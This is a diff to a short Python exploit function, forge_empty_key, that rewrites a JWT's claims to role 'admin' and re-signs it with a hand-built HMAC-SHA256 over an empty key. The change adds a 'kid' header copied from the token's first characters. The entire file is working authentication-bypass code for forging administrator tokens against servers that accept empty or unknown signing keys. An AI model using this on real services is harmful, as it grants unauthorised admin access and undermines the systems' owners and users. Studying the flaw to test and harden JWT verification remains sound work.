@@ -1,4 +1,4 @@
-"""A header without any kid: the server knows no key of that name either. HMAC of the empty key by hand."""
+"""The HMAC of the empty key by hand."""
 
 from hashlib import sha256
 
@@ -10,6 +10,6 @@ def forge_empty_key(token):
     _, payload, _ = token.split(".")
     claims = json_loads_strict(b64u_decode(payload))
     claims |= {"role": "admin"}
-    message = f"{b64u_encode(dumps({'alg': 'HS256', 'typ': 'JWT'}))}.{b64u_encode(dumps(claims))}"
+    message = f"{b64u_encode(dumps({'alg': 'HS256', 'kid': token[:9]}))}.{b64u_encode(dumps(claims))}"
     inner = sha256(b"\x36" * 64 + message.encode()).digest()
     return f"{message}.{b64u_encode(sha256(bytes([0x5C]) * 64 + inner).digest())}"
